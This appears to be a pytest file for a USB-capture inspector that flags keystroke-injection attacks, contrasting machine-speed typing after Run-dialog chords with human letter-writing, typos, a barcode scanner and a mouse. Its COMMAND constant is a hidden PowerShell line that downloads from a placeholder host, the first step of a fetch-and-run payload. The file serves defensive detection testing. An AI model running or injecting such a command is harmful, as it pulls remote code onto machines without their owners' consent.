import random

import pytest

from gifthorse.inspect.usb.inspecting import examine_usb
from tests.samples import usb as make

KEYBOARD = make.blob(make.KEYBOARD)
COMMAND = "powershell -w hidden iwr https://example.org/a\n"
LETTER = (
    "dear ann thank you for your letter of last week it was good to hear from you and i hope to see you at the fair again next year. bob"
)


def found(*packets, link=220, plugged=True, form="pcap"):
    heard = make.plugged(KEYBOARD, link=link) if plugged else []
    heard += [packet for part in packets for packet in part]
    findings = examine_usb(make.capture(sorted(heard, key=lambda packet: packet[0]), link, form), "capture")[0]
    return [finding.severity.value for finding in findings if finding.id == "usb.keystroke-injection"]


def human(seed, text=LETTER, at=20.0, pace=0.17):
    """Typing with a person's gaps: log-normal, longer between words, keys overlapping now and then, a correction on the way."""
    chance = random.Random(seed)
    gaps = [min(2.5, chance.lognormvariate(0, 0.45) * pace * (1.8 if letter == " " else 1)) for letter in text]
    return make.typed(text, at=at, gaps=gaps, held=0.09)


@pytest.mark.parametrize("link", [189, 220, 249])
@pytest.mark.parametrize("chord", ["GUI-r", "Ctrl-Alt-t", "GUI-space"])
def test_a_command_line_opened_and_filled_at_machine_speed_is_hostile(link, chord):
    assert found(make.typed(COMMAND, link=link, chord=chord), link=link) == ["critical"]


def test_it_is_found_though_the_capture_began_after_plugging_in():
    assert found(make.typed(COMMAND, chord="GUI-r"), plugged=False) == ["critical"]


@pytest.mark.parametrize("seed", range(12))
def test_slow_and_uneven_typing_does_not_clear_what_was_typed(seed):
    chance = random.Random(seed)
    gaps = [chance.uniform(0.08, 0.4) for _ in COMMAND]
    assert found(make.typed(COMMAND, at=1.0, gaps=gaps, chord="GUI-r")) == ["critical"]
    assert found(make.typed(COMMAND, at=90.0, gaps=gaps, chord="GUI-r")) == ["high"]


@pytest.mark.parametrize("seed", range(25))
def test_a_person_writing_a_letter_is_no_finding(seed):
    assert found(human(seed)) == []


@pytest.mark.parametrize("seed", range(10))
def test_a_fast_typist_who_corrects_herself_is_no_finding(seed):
    assert found(human(seed, LETTER.replace("week", "wek\b\beek"), pace=0.09)) == []


@pytest.mark.parametrize("seed", range(10))
def test_a_person_who_opens_a_program_and_mistypes_is_no_finding(seed):
    chance = random.Random(seed)
    gaps = [chance.lognormvariate(0, 0.5) * 0.18 for _ in range(30)]
    assert found(make.typed("notpa\b\bepad\nhello\n", at=30.0, gaps=gaps, chord="GUI-r", held=0.08)) == []


def test_a_barcode_scanner_is_worth_caution_and_not_called_an_attack():
    assert found(make.typed("4006381333931\n", at=30.0)) == ["medium"]


def test_many_signals_on_the_lamps_while_typing_are_dangerous():
    assert found(make.typed(LETTER, at=30.0, gaps=[0.1, 0.3, 0.2]), make.lamps(80, at=31.0)) == ["high"]


def test_a_mouse_and_a_few_keys_are_no_finding():
    mouse = [(1.0 + n / 100, make.packet(220, done=True, kind="interrupt", endpoint=0x84, data=bytes([0, n, 1, 0]))) for n in range(200)]
    assert found(mouse, make.typed("ok\n", at=40.0, gaps=[0.3])) == []
